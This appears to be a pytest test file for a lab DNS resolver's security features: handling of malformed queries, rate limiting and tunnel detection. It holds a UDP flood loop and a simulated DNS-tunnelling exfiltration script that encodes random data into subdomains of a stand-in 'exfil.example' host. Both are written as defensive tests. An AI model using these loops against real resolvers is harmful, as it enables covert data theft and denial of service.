"""The dns-security scenario end to end, then bad input, a flood and a tunnel against the running resolver."""

import json
import sys
import time

import pytest
from dnslib import DNSRecord

from netns.lab import started
from netns import dig as lab_dig
from netns.scenarios.dns_security import CLIENT, CLIENT2, RESOLVER, BP_SECURITY, DnsSecurity

pytestmark = pytest.mark.lab


@pytest.fixture(scope="module")
def running(tmp_path_factory):
    sc = DnsSecurity()
    with started(sc, tmp_path_factory.mktemp("dns-lab")) as lab:
        lab.capture_all()
        seen = sc.drive(lab)
        time.sleep(0.3)
        lab.stop_captures()
        yield sc, lab, seen


def dig(lab, *args, host="client"):
    return lab_dig.ask(lab, host, f"@{RESOLVER}", *args)


def py(lab, code, host="client", timeout=60):
    r = lab.exec(host, [sys.executable, "-c", code], timeout=timeout)
    assert r.returncode == 0, r.stderr.decode()
    return r.stdout.decode()


def test_every_step_of_the_scenario_is_observed(running):
    sc, lab, seen = running
    steps = sc.verify(lab, seen)
    failed = [f"{s.number} {s.text}: {s.evidence}" for s in steps if not s.ok]
    assert not failed, "\n".join(failed)
    assert len(steps) == 18 + 9


SEND = """
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
def ask(data):
    s.sendto(data, ("208.67.222.222", 53))
    try:
        return s.recv(4096).hex()
    except socket.timeout:
        return None
out = {}
"""


def test_bad_input_gets_a_clear_refusal_and_service_goes_on(running):
    _, lab, _ = running
    q = DNSRecord.question("www.good.example").pack()
    two = q[:4] + b"\x00\x02" + q[6:]
    from dnslib import EDNS0

    v1 = DNSRecord.question("www.good.example")
    v1.add_ar(EDNS0(udp_len=1232, version=1))
    code = SEND + f"""
out["garbage"] = ask(b"\\x00\\x01\\x00\\x00\\x00\\x01" + b"garbage-garbage-garbage")
out["noise"] = ask(b"\\x00\\x02noise-noise-noise")
out["short"] = ask(b"\\x01\\x02")
out["two"] = ask(bytes.fromhex("{two.hex()}"))
out["v1"] = ask(bytes.fromhex("{v1.pack().hex()}"))
out["oversized"] = ask(bytes.fromhex("{q.hex()}") + b"\\x00" * 3000)
import json; print(json.dumps(out))
"""
    out = json.loads(py(lab, code))
    rcode = lambda h: int(h[6:8], 16) & 0xF
    assert out["short"] is None                       # not even a header: dropped
    assert rcode(out["garbage"]) == 1 and rcode(out["two"]) == 1 and rcode(out["oversized"]) == 1   # FORMERR
    assert rcode(out["noise"]) in (1, 4)               # its flags claim an unknown opcode: NOTIMP
    badvers = DNSRecord.parse(bytes.fromhex(out["v1"]))
    opt = [rr for rr in badvers.ar if rr.rtype == 41][0]
    assert (opt.ttl >> 24) == 1                        # extended rcode 1 + header 0 = BADVERS (16)
    assert dig(lab, "www.good.example")["status"] == "NOERROR"
    time.sleep(1.0)   # the query log is flushed twice a second
    log = [json.loads(l) for l in (lab.log_dir / "dns-queries.jsonl").read_text().splitlines()]
    assert sum(1 for r in log if r["decision"] == "bad-query") == 6


def test_a_flood_is_rate_limited_and_others_still_served(running):
    _, lab, _ = running
    q = DNSRecord.question("malware.bad.example").pack()
    code = f"""
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("{CLIENT}", 0)); s.setblocking(False)
q = bytes.fromhex("{q.hex()}")
sent = got = 0
end = time.monotonic() + 2.0
while time.monotonic() < end and sent < 20000:
    try:
        s.sendto(q, ("{RESOLVER}", 53)); sent += 1
    except BlockingIOError:
        pass
    try:
        while True:
            s.recv(512); got += 1
    except BlockingIOError:
        pass
time.sleep(0.5)
try:
    while True:
        s.recv(512); got += 1
except BlockingIOError:
    pass
print(sent, got)
"""
    t0 = time.time()
    sent, got = map(int, py(lab, code).split())
    assert sent > 1500 and got < sent, (sent, got)    # limit 500 q/s, burst 1000
    other = dig(lab, "-b", CLIENT2, "malware.bad.example", "A")
    assert other["status"] == "NOERROR" and other["answers"][0][2] == BP_SECURITY
    time.sleep(1.0)
    log = [json.loads(l) for l in (lab.log_dir / "dns-queries.jsonl").read_text().splitlines()]
    limited = [r for r in log if r["decision"] == "rate-limited" and r["client"] == CLIENT]
    # drops are counted in a few lines (every half second), not one per packet, and the
    # resolver answered no more than the burst plus the rate allows
    dropped = sum(r["dropped"] for r in limited)
    answered = sum(1 for r in log if r["client"] == CLIENT and r.get("name") == "malware.bad.example"
                   and r["time"] >= t0 and r["decision"] == "blocked")
    assert dropped > 0 and dropped + answered <= sent and len(limited) <= 8
    assert answered <= 1000 + 500 * 3, answered


def test_tunnelling_is_detected_live(running):
    _, lab, _ = running
    code = """
import base64, random, socket
from dnslib import DNSRecord
rng = random.Random(5)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
for i in range(30):
    raw = base64.b32encode(rng.randbytes(60)).decode().lower().rstrip("=")
    q = DNSRecord.question(raw[:48] + "." + raw[48:] + ".t.exfil.example", "TXT")
    s.sendto(q.pack(), ("208.67.222.222", 53))
    try: s.recv(4096)
    except socket.timeout: pass
"""
    py(lab, code)
    mx = dig(lab, "www.exfil.example", "MX")
    assert mx["status"] == "REFUSED" and "dns-tunneling-vpn" in mx["ede"] and "detected" in mx["ede"]
    a = dig(lab, "www.exfil.example", "A")
    assert a["answers"][0][2] == BP_SECURITY
    time.sleep(1.0)   # the resolver reports detections in its housekeeping, twice a second
    resolver_log = (lab.log_dir / "resolver.log").read_text()
    assert "tunnelling detected under exfil.example" in resolver_log
